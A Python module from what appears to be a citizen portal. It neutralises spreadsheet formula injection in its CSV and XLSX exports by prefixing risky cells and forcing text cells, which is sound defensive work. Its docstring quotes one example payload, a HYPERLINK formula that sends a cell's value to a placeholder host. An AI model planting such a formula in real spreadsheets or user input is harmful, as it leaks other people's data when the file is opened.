"""Every XLSX and CSV the portal writes goes through here, so that user text stays text.

A citizen may name themselves `=HYPERLINK("http://x/?"&E7,"Xem")`; written as it stands, Excel
runs it as a formula when a clerk opens the register. In XLSX each string is stored as a string
cell (never a formula) with Excel's quote prefix; in CSV, which has no types, a cell starting
with one of = + - @ tab or carriage return gets a leading apostrophe, as OWASP advises.

Used by the register (dossiers/printing/records.py), the catalogue export
(procedures/catalogue_io.py) and the statistics export. It imports nothing from the project, so
any app may use it without an import loop.
"""

import csv
import io

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_text(value):
    """One CSV cell: None → "", strings that a spreadsheet would run are prefixed with '."""
    if value is None:
        return ""
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def csv_untext(text):
    """The cell as written before csv_text: what an import of our own export reads back."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


def csv_bytes(rows, *, bom=True):
    """UTF-8 CSV of `rows` (iterables of values), every cell through csv_text.

    With a BOM, Excel opens the file with its Vietnamese diacritics intact.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow([csv_text(value) for value in row])
    return (("\ufeff" if bom else "") + buffer.getvalue()).encode("utf-8")


def put(sheet, row, column, value):
    """Write `value` into an openpyxl sheet's cell and return the cell.

    Numbers, dates and None keep their type; a string is always a string cell, whatever it starts
    with (openpyxl would otherwise store "=…" as a formula).
    """
    cell = sheet.cell(row=row, column=column)
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"
        if value.startswith(FORMULA_STARTS):
            # Excel keeps the text as text even when someone edits the cell later.
            cell.quotePrefix = True
    return cell


def append(sheet, values):
    """Like openpyxl's sheet.append, through put(): the next row, strings as text."""
    values = list(values)
    sheet.append(values)
    row = sheet.max_row
    return [put(sheet, row, column, value) for column, value in enumerate(values, start=1)]
